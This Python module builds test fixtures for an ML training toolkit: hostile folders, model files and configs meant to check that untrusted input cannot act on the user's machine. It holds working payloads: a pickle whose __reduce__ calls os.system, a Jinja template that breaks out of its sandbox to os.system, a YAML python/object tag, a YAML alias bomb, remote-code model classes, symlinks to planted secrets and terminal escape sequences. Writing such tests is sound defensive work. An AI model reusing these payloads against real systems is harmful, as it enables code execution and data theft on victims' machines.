"""Folders and files that a stranger could send: each tries to act on the machine of the user who reads it.

A payload writes a file into the folder of marks, sends a request to a listener, or prints a control character. Covered:
runs, results, models, checkpoints, problems, trajectories, recipes and pipelines. Not covered: text that attacks a page
(``hostile_run``), programs that attack the sandbox.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import struct
from collections.abc import Callable, Mapping
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

from rstar2_env.core.options.parts import Part
from rstar2_env.trainers.base import TRAINERS
from rstar2_env.trainers.options.cold_start import SftOptions

ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\u202e"
PLANTED = "planted-secret-5c1f9a"
VARIABLE = "PLANTED_KEY"
"""A variable of the environment whose value is ``PLANTED``."""
_PAYLOAD = """
import sys
open({mark!r}, "a").write("import " + " ".join(sys.argv[:1]) + "\\n")
class V:
    def __init__(self, *args, **options): pass
    def __call__(self, *args, **options): return True
"""
_MODEL_CODE = """
open({mark!r}, "a").write("model\\n")
from transformers import Qwen3Config, Qwen3ForCausalLM
class EvilConfig(Qwen3Config): model_type = "evil"
class EvilModel(Qwen3ForCausalLM): config_class = EvilConfig
"""
_TEMPLATE = (
    "{{{{ cycler.__init__.__globals__.os.system('touch {mark}') }}}}"
    "{{% for m in messages %}}{{{{ m.content }}}}{{% endfor %}}"
)


@dataclass(frozen=True)
class Scene:
    """What the folders are made from.

    Attributes:
        evaluation: The folder of an evaluation that nothing is wrong with.
        model: The folder of a small model.
        machine: The file that ``rstar2 doctor --json`` printed.
        marks: The folder into which payloads write.
        listener: Address to which nothing may be sent.
    """

    evaluation: Path
    model: Path
    machine: Path
    marks: Path
    listener: str

    def mark(self, name: str) -> str:
        """The file that a payload writes."""
        return str(self.marks / name)


class Payload:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def _evaluation(options: Mapping[str, Any], act: Callable[[dict[str, Any]], None] = lambda line: None) -> Any:
    def make(folder: Path, scene: Scene) -> None:
        shutil.copytree(scene.evaluation, folder)
        code = folder / "payload.py"
        code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
        text = json.dumps(options).replace("CODE", f"{code}:V").replace("LISTENER", scene.listener)
        text = text.replace("MARK", scene.mark(folder.name))
        config = json.loads((folder / "config.json").read_text())
        config |= json.loads(text)
        (folder / "config.json").write_text(json.dumps(config))
        file = folder / "episodes" / "eval-000000.jsonl"
        lines = [json.loads(line) for line in file.read_text().splitlines()]
        for line in lines:
            line["run"] |= json.loads(text)
            act(line)
        mark = scene.mark(folder.name)
        file.write_text("".join(json.dumps(line).replace("MARK", mark) + "\n" for line in lines))

    return make


def _writes(line: dict[str, Any]) -> None:
    """Let the first turn call the tool with a program that writes the mark."""
    call = {"name": "execute_python_code_with_standard_io", "arguments": {"code": "open('MARK','a')", "input": ""}}
    turn = next(message for message in line["messages"] if message["role"] == "assistant")
    turn["content"] = f"<reason>x</reason>\n<tool_call>\n{json.dumps(call)}\n</tool_call>"


def _asks(line: dict[str, Any]) -> None:
    """Give an answer that only a model can grade."""
    line["gold"], line["answer"] = "the set of all prime numbers", "primes; every one of them"


def _escapes(line: dict[str, Any]) -> None:
    for name in ("problem_id", "answer", "end", "gold"):
        line[name] = f"{line[name]}{ESCAPES}"
    for message in line["messages"]:
        message["content"] += ESCAPES


def _options(options: Mapping[str, Any]) -> Callable[[Path, Scene], None]:
    return _training({}, more=options)


def _training(
    model: Mapping[str, Any], parts: Mapping[str, Any] | None = None, more: Mapping[str, Any] | None = None
) -> Callable[[Path, Scene], None]:
    def make(folder: Path, scene: Scene) -> None:
        folder.mkdir()
        identity = {"format": "rstar2-env/run", "version": 1, "kind": "training", "config": "config.json"}
        (folder / "run.json").write_text(json.dumps(identity))
        code = folder / "payload.py"
        code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
        config = {
            "trainer": "grpo",
            "model": {"path": str(scene.model), **model},
            "parts": dict(parts or {}),
            **(more or {}),
        }
        (folder / "config.json").write_text(json.dumps(config).replace("CODE", f"{code}:V"))
        (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 0.5}\n')
        events = [
            {"event": "checkpoint", "path": "checkpoint-1", "step": 1, "time": "x"},
            {"event": "saved", "path": "final", "step": 1, "time": "x"},
        ]
        (folder / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
        shutil.copytree(scene.model, folder / "final")
        (folder / "checkpoint-1").mkdir()
        (folder / "checkpoint-1" / "complete.json").write_text("{}")

    return make


def _with_model_code(folder: Path, scene: Scene) -> None:
    _training({"trust_remote_code": True})(folder, scene)
    _add_code(folder / "final", scene, folder.name)


def _add_code(model: Path, scene: Scene, name: str) -> None:
    config = json.loads((model / "config.json").read_text())
    config |= {"model_type": "evil", "architectures": ["EvilModel"]}
    config["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilModel"}
    (model / "config.json").write_text(json.dumps(config))
    (model / "evil.py").write_text(_MODEL_CODE.format(mark=scene.mark(name)))


def _pickled_shards(folder: Path, scene: Scene) -> None:
    _training({})(folder, scene)
    shards = folder / "checkpoint-1" / "shards"
    shards.mkdir()
    payload = Payload(f"touch {scene.mark(folder.name)}")
    (shards / ".metadata").write_bytes(pickle.dumps(payload))
    for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth", "training_args.bin"):
        (folder / "checkpoint-1" / name).write_bytes(pickle.dumps(payload))
    shutil.rmtree(folder / "final")


def _link(folder: Path, scene: Scene) -> None:
    secret = folder.parent / f"{folder.name}-outside.py"
    secret.write_text(f"# {PLANTED}")
    shutil.copytree(scene.model, folder)
    (folder / "x.py").symlink_to(secret)


def _model(folder: Path, scene: Scene) -> None:
    """A model with code of its own, a template that leaves Jinja, and pickled weights."""
    shutil.copytree(scene.model, folder)
    (folder / "chat_template.jinja").write_text(_TEMPLATE.format(mark=scene.mark(folder.name)))
    config = json.loads((folder / "tokenizer_config.json").read_text())
    config["chat_template"] = _TEMPLATE.format(mark=scene.mark(folder.name))
    (folder / "tokenizer_config.json").write_text(json.dumps(config))


def _model_code(folder: Path, scene: Scene) -> None:
    shutil.copytree(scene.model, folder)
    _add_code(folder, scene, folder.name)


def _pickled_model(folder: Path, scene: Scene) -> None:
    shutil.copytree(scene.model, folder)
    for file in folder.glob("*.safetensors"):
        file.unlink()
    (folder / "pytorch_model.bin").write_bytes(pickle.dumps(Payload(f"touch {scene.mark(folder.name)}")))


def _weights(header: bytes, length: int | None = None) -> Callable[[Path, Scene], None]:
    """A model whose weights have this header, after the header's length; ``None`` writes the true length."""

    def make(folder: Path, scene: Scene) -> None:
        shutil.copytree(scene.model, folder)
        written = (len(header) if length is None else length).to_bytes(8, "little")
        (folder / "model.safetensors").write_bytes(written + header)

    return make


def _text(value: str) -> bytes:
    return struct.pack("<Q", len(value.encode())) + value.encode()


def _gguf(*pairs: tuple[str, int, bytes], tensors: int = 0, count: int | None = None) -> Callable[[Path, Scene], None]:
    """A GGUF file with this metadata, each a name, a type and a value."""

    def make(folder: Path, scene: Scene) -> None:
        folder.mkdir()
        content = struct.pack("<4sIQQ", b"GGUF", 3, tensors, len(pairs) if count is None else count)
        for name, kind, value in pairs:
            content += _text(name) + struct.pack("<I", kind) + value
        (folder / "file.gguf").write_bytes(content)

    return make


def _gguf_escapes(folder: Path, scene: Scene) -> None:
    texts = {"general.architecture": f"llama{ESCAPES}", "general.name": ESCAPES}
    texts |= {ESCAPES: ESCAPES, "tokenizer.chat_template": _TEMPLATE.format(mark=scene.mark(folder.name))}
    _gguf(*((name, 8, _text(value)) for name, value in texts.items()))(folder, scene)


def _checkpoint(folder: Path, scene: Scene, mark: str) -> None:
    """A checkpoint with the weights of a model, in which every other file of torch is a pickle."""
    shutil.copytree(scene.model, folder, dirs_exist_ok=True)
    (folder / "complete.json").write_text('{"step": 1, "processes": 1}')
    (folder / "trainer_state.json").write_text('{"global_step": 1, "train_batch_size": 8}')
    for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth", "training_args.bin", "run_state_0.pt"):
        (folder / name).write_bytes(pickle.dumps(Payload(f"touch {mark}")))


def _resumed(folder: Path, scene: Scene) -> None:
    """A run whose options are those of the call that resumes it."""
    _training({})(folder, scene)
    options = {"model": str(scene.model), "dtype": "float32", "env_options": {"problems": "arithmetic"}}
    config = TRAINERS.get("grpo").configure(options)
    config.parts.correction = Part("none")  # which "auto" selects
    (folder / "config.json").write_text(json.dumps({"trainer": "grpo", **config.record()}))
    _checkpoint(folder / "checkpoint-1", scene, scene.mark(folder.name))


def _resumed_sft(folder: Path, scene: Scene) -> None:
    """A cold start whose options are those of the call that resumes it, with its traces."""
    folder.mkdir()
    identity = {"format": "rstar2-env/run", "version": 1, "kind": "sft", "config": "sft.json"}
    (folder / "run.json").write_text(json.dumps(identity))
    (folder / "sft.json").write_text(json.dumps(asdict(SftOptions(model=str(scene.model), dtype="float32"))))
    (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 0.5}\n')
    messages = [{"role": "user", "content": "2+2"}, {"role": "assistant", "content": "4"}]
    (folder / "file.jsonl").write_text(json.dumps({"messages": messages}) + "\n")
    _checkpoint(folder / "checkpoint-1", scene, scene.mark(folder.name))


def _yaml(folder: Path, scene: Scene) -> None:
    folder.mkdir()
    text = f"trainer: grpo\nmodel: !!python/object/apply:os.system ['touch {scene.mark(folder.name)}']\n"
    (folder / "file.yaml").write_text(text)


def _recipe(folder: Path, scene: Scene) -> None:
    folder.mkdir()
    code = folder / "payload.py"
    code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
    (folder / "file.toml").write_text(f'trainer = "grpo"\n[parts]\nselector = "{code}:V"\n')


def _problems(folder: Path, scene: Scene) -> None:
    folder.mkdir()
    code = folder / "payload.py"
    code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
    own = f"{code}:V"
    line = {"question": f"1+1? {ESCAPES}", "answer": "2", "id": f"p{ESCAPES}", "verifier": own, "dialect": own}
    (folder / "file.jsonl").write_text(json.dumps({**line, "env": own, "tools": [own], "__class__": own}) + "\n")


def _trajectory(folder: Path, scene: Scene) -> None:
    """A trajectory of ATIF whose own fields and extras name code, an address and a sandbox."""
    folder.mkdir()
    code = folder / "payload.py"
    code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
    own = f"{code}:V"
    setting = {"env": own, "env_options": {"verifier": own, "sandbox": {"provider": "remote", "url": scene.listener}}}
    episode = {
        "run": setting,
        "messages": [{"role": "user", "content": ESCAPES}, {"role": "assistant", "content": "x"}],
    }
    call = {"tool_call_id": "1", "function_name": own, "arguments": {"code": f"open({scene.mark(folder.name)!r}, 'a')"}}
    steps = [
        {"step_id": 1, "source": "user", "message": f"1+1? {ESCAPES}"},
        {"step_id": 2, "source": "agent", "message": f"x{ESCAPES}", "tool_calls": [call]},
    ]
    agent: dict[str, Any] = {"name": own, "version": ESCAPES, "extra": setting}
    trajectory: dict[str, Any] = {
        "schema_version": "ATIF-v1.8",
        "trajectory_id": f"../{ESCAPES}",
        "agent": agent,
        "steps": steps,
    }
    trajectory |= {"continued_trajectory_ref": scene.listener, "extra": {**setting, "rstar2_env": {"episode": episode}}}
    (folder / "file.json").write_text(json.dumps(trajectory))


def _outside(folder: Path, scene: Scene) -> None:
    """A run whose files are links to files of the machine, and whose own names lead there."""
    _training({})(folder, scene)
    outside = folder.parent / f"{folder.name}-outside"
    shutil.copytree(scene.model, outside)
    for name in ("config.json", "metrics.jsonl", "README.md", "verdict.json"):
        (outside / name).write_text(json.dumps({"step": 1, "sentences": [PLANTED], PLANTED: 1.0}) + "\n")
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(outside / name)
    identity = json.loads((folder / "run.json").read_text())
    (folder / "run.json").write_text(json.dumps({**identity, "config": f"../{outside.name}/config.json"}))
    saved = {"event": "saved", "path": f"../{outside.name}", "step": 1, "time": "x"}
    with (folder / "events.jsonl").open("a") as file:
        file.write(json.dumps(saved) + "\n")
    shutil.rmtree(folder / "final")
    (folder / "final").symlink_to(outside)


def _linked_episodes(folder: Path, scene: Scene) -> None:
    """An evaluation whose episodes are a link to those of another folder."""
    _evaluation({}, lambda line: line.update(answer=PLANTED, problem_id=PLANTED))(folder, scene)
    outside = folder.parent / f"{folder.name}-outside.jsonl"
    file = folder / "episodes" / "eval-000000.jsonl"
    file.rename(outside)
    file.symlink_to(outside)


def _pipes(folder: Path, scene: Scene) -> None:
    """A run whose files have no end, or wait for a writer."""
    _training({})(folder, scene)
    for name in ("metrics.jsonl", "README.md"):
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)
    (folder / "verdict.json").symlink_to("/dev/zero")


def _strange(line: dict[str, Any]) -> None:
    """Give every field a value of a wrong type, or one that is too large."""
    huge = int("9" * 400)
    line |= {"seed": huge, "reward": huge, "seconds": [], "index": -huge, "answer": {"a": [None]}, "gold": huge}
    line |= {"problem_id": None, "messages": [*line["messages"], {"role": huge, "content": [1]}, None]}
    line["run"] |= {"env_options": [1], "wrappers": huge, "problems": {"path": "\0"}, "agent": [[]], "seed": "x" * 5000}


_DIGITS, _DEEP = "7" * 5000, "[" * 50_000 + "]" * 50_000
STRANGE_LINES: dict[str, tuple[str, str]] = {
    "strange_step_infinite": ("metrics.jsonl", '{"step": 1e999}'),
    "strange_step_null": ("metrics.jsonl", '{"step": null}'),
    "strange_step_missing": ("metrics.jsonl", '{"loss": 1}'),
    "strange_step_list": ("metrics.jsonl", '{"step": [], "loss": {}}'),
    "strange_step_negative": ("metrics.jsonl", '{"step": -1, "loss": NaN}'),
    "strange_step_long": ("metrics.jsonl", f'{{"step": {"7" * 400}, "loss": 1}}'),
    "strange_figure_text": ("metrics.jsonl", '{"step": 1, "loss": "x"}'),
    "strange_figure_mapping": ("metrics.jsonl", '{"step": 1, "kl": {"a": 1}}'),
    "strange_figure_long": ("metrics.jsonl", f'{{"step": 1, "loss": {"9" * 400}}}'),
    "strange_figure_infinite": ("metrics.jsonl", '{"step": 1, "loss": 1e999, "reward": -1e999, "kl": NaN}'),
    "strange_line_list": ("metrics.jsonl", "[1]"),
    "strange_line_deep": ("metrics.jsonl", _DEEP),
    "strange_path_null_character": ("events.jsonl", '{"event": "checkpoint", "path": "\\u0000", "step": 1}'),
    "strange_event_step_infinite": ("events.jsonl", '{"event": "checkpoint", "path": "checkpoint-1", "step": 1e999}'),
    "strange_event_step_missing": ("events.jsonl", '{"event": "finished"}'),
    "strange_event_missing": ("events.jsonl", '{"step": 1}'),
    "strange_event_list": ("events.jsonl", '{"event": [], "step": 1}'),
    "strange_figures_missing": ("events.jsonl", '{"event": "evaluation", "step": 1}'),
    "strange_figures_text": ("events.jsonl", '{"event": "evaluation", "step": 1, "figures": {"pass_rate": "x"}}'),
    "strange_figures_long": (
        "events.jsonl",
        f'{{"event": "evaluation", "step": 1, "figures": {{"pass_rate": {"9" * 400}}}}}',
    ),
    "strange_processes": ("events.jsonl", '{"event": "resumed", "step": 1, "processes": "x"}'),
    "strange_versions": ("events.jsonl", '{"event": "started", "step": 1, "versions": 7}'),
    "strange_versions_values": (
        "events.jsonl",
        '{"event": "started", "step": 1, "versions": {"torch": [{}], "x": null}}',
    ),
    "strange_saved_path": ("events.jsonl", '{"event": "saved", "path": 7, "step": 1}'),
    "strange_step_digits": ("events.jsonl", f'{{"event": "saved", "path": "final", "step": {_DIGITS}}}'),
    "strange_note_text": ("events.jsonl", '{"event": "note", "step": 1, "text": [1]}'),
    "strange_note_deep": ("events.jsonl", f'{{"event": "note", "step": 1, "text": {_DEEP}}}'),
    "strange_time": ("events.jsonl", '{"event": "finished", "step": 1, "time": 7}'),
}
"""Lines of a run that no run writes, each with its file; a reader that refuses one does not reach a second one."""


def _strange_line(name: str) -> Callable[[Path, Scene], None]:
    def make(folder: Path, scene: Scene) -> None:
        _training({})(folder, scene)
        file, line = STRANGE_LINES[name]
        with (folder / file).open("a") as opened:
            opened.write(f"{line}\n")

    return make


def _yaml_bomb(folder: Path, scene: Scene) -> None:
    """Aliases that repeat a value a thousand million times."""
    folder.mkdir()
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x]"]
    lines += [f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 8)}]" for at in range(1, 10)]
    (folder / "file.yaml").write_text("trainer: grpo\n" + "\n".join(lines) + "\n")


def _file_name(folder: Path, scene: Scene) -> None:
    """A file with control characters in its name."""
    folder.mkdir()
    (folder / f"file.{ESCAPES.replace('/', '')}.jsonl").write_text("[1]\n")


def _tokenizer_code(folder: Path, scene: Scene) -> None:
    """A model whose tokenizer has code of its own."""
    shutil.copytree(scene.model, folder)
    (folder / "evil.py").write_text(_MODEL_CODE.format(mark=scene.mark(folder.name)))
    file = folder / "tokenizer_config.json"
    own: dict[str, Any] = {
        "auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", "evil.EvilTokenizer"]},
        "tokenizer_class": "EvilTokenizer",
    }
    file.write_text(json.dumps({**json.loads(file.read_text()), **own}))


def _adapter(folder: Path, scene: Scene) -> None:
    """An adapter that names modules to import, with pickled weights."""
    folder.mkdir()
    names = {"parent_library": "payload", "base_model_class": "V"}
    adapter = {
        "peft_type": "LORA",
        "task_type": "CAUSAL_LM",
        "r": 2,
        "target_modules": ["q_proj"],
        "auto_mapping": names,
    }
    adapter |= {
        "megatron_config": {"a": 1},
        "megatron_core": "antigravity",
        "base_model_name_or_path": str(scene.model),
    }
    (folder / "adapter_config.json").write_text(json.dumps(adapter))
    (folder / "payload.py").write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
    (folder / "adapter_model.bin").write_bytes(pickle.dumps(Payload(f"touch {scene.mark(folder.name)}")))


FOLDERS: dict[str, Callable[[Path, Scene], None]] = {
    "env": _evaluation({"env": "CODE"}),
    "verifier": _evaluation({"env_options": {"verifier": "CODE"}}),
    "dialect": _evaluation({"env_options": {"dialect": "CODE"}}),
    "wrapper": _evaluation({"wrappers": ["CODE"]}),
    "agent": _evaluation({"agent": "CODE", "judge": "CODE", "scores": ["CODE"], "env_options": {"judge": "CODE"}}),
    "module": _evaluation({"env": "os:system", "env_options": {"verifier": "antigravity:V"}}),
    "isolation": _evaluation({"env_options": {"sandbox": {"provider": "local", "isolation": "none"}}}, _writes),
    "address": _evaluation({"env_options": {"verifier": f"model:url=LISTENER,model=x,api_key_env={VARIABLE}"}}, _asks),
    "sender": _evaluation({"env_options": {"sandbox": {"provider": "remote", "url": "LISTENER"}}}, _writes),
    "server": _evaluation({"env_options": {"tools": ["python", "mcp:touch MARK:isolation=none"]}}),
    "writer": _evaluation({"wrappers": ["record_episodes:path=MARK,overwrite=true"]}),
    "readable": _evaluation({"env_options": {"tools": ["python:sandbox.readable=/root"]}}),
    "strange": _evaluation({}, _strange),
    "linked_episodes": _linked_episodes,
    "outside": _outside,
    "pipes": _pipes,
    **{kind: _strange_line(kind) for kind in STRANGE_LINES},
    "strange_options": _training({"path": {"a": []}}, {"selector": [[]], "hook": 7}),
    "engine": _options({"rollout": {"engine": "vllm", "engine_options": {"worker_extension_cls": "CODE"}}}),
    "trl_options": _options({"optim": {"trl_options": {"push_to_hub": True, "hub_model_id": "theirs/model"}}}),
    "yaml_bomb": _yaml_bomb,
    "file_name": _file_name,
    "tokenizer_code": _tokenizer_code,
    "adapter": _adapter,
    "escapes": _evaluation({"env": f"x{ESCAPES}", "agent": ESCAPES}, _escapes),
    "parts": _training({}, {"selector": {"name": "CODE"}, "hook": ["CODE"]}),
    "trust_remote_code": _with_model_code,
    "pickles": _pickled_shards,
    "link": _link,
    "template": _model,
    "model_code": _model_code,
    "pickled_model": _pickled_model,
    "safetensors_length": _weights(b"{}", 1 << 60),
    "safetensors_json": _weights(b'{"a": '),
    "safetensors_offsets": _weights(b'{"a": {"dtype": "F32", "shape": [1]}}'),
    "safetensors_shape": _weights(b'{"a": {"dtype": "F32", "shape": [%d], "data_offsets": [0, 0]}}' % (1 << 60)),
    "gguf_cut": _gguf(count=1),
    "gguf_counts": _gguf(tensors=1 << 60, count=1 << 60),
    "gguf_array": _gguf(("a", 9, struct.pack("<IQ", 0, 1 << 60))),
    "gguf_escapes": _gguf_escapes,
    "resumed": _resumed,
    "resumed_sft": _resumed_sft,
    "yaml": _yaml,
    "recipe": _recipe,
    "problems": _problems,
    "trajectory": _trajectory,
}
"""What is wrong with a folder, and the function that makes it."""

_ADDRESS = "a judge or a sandbox at an address, or a command as an MCP server"
_OWN_PATHS = "the wrapper `record_episodes` with a path, or a folder of the machine as `readable` of the tool's sandbox"
ROWS: dict[str, str] = {
    "env": "an environment in a file",
    "verifier": "a verifier or a dialect in a file",
    "dialect": "a verifier or a dialect in a file",
    "wrapper": "a wrapper in a file",
    "agent": "an agent, a judge and scores in files",
    "module": "`os:system` as the environment",
    "isolation": '`isolation="none"`, and a program that writes a file',
    "address": _ADDRESS,
    "sender": _ADDRESS,
    "server": _ADDRESS,
    "escapes": "control characters in every text",
    "parts": "a selector and a hook in files",
    "trust_remote_code": "`trust_remote_code`, and code in the model",
    "pickles": "pickles as the metadata of shards and the state of the optimizer",
    "resumed": "pickles in a checkpoint that the command resumes",
    "link": "a link to a file of the machine, in a model",
    "outside": "links to files of the machine in place of the files of a run",
    "linked_episodes": "a link in place of the episodes",
    "pipes": "named pipes, and a link to `/dev/zero`",
    "strange": "numbers that are too large or not finite, values of wrong types or nested deeply",
    "writer": _OWN_PATHS,
    "readable": _OWN_PATHS,
    "engine": "`worker_extension_cls` of vLLM, or `push_to_hub` of TRL",
    "trl_options": "`worker_extension_cls` of vLLM, or `push_to_hub` of TRL",
    "template": "a chat template that leaves Jinja",
    "tokenizer_code": "a tokenizer with code of its own",
    "adapter": "an adapter that names modules, with pickled weights",
    "model_code": "a model with code of its own",
    "pickled_model": "pickled weights",
    "safetensors": "damaged safetensors headers",
    "gguf": "damaged GGUF metadata, or with control characters",
    "yaml": "tags in YAML that call a function",
    "yaml_bomb": "YAML aliases that repeat values a billion times",
    "file_name": "a file with control characters in its name",
    "recipe": "a recipe with a part in a file",
    "problems": "problems that name code, with control characters",
    "trajectory": "a trajectory that names code and an address",
}
"""The row of the table in docs/trust.md, by kind of folder; a row is about all kinds that begin with its key and _."""


def file_in(folder: Path) -> Path:
    """The file that a command is given where it takes a file: the one in the folder, or the folder itself."""
    inside = [*folder.glob("file.*"), *(file for file in folder.glob("episodes/*.jsonl") if not file.is_symlink())]
    return inside[0] if inside else folder
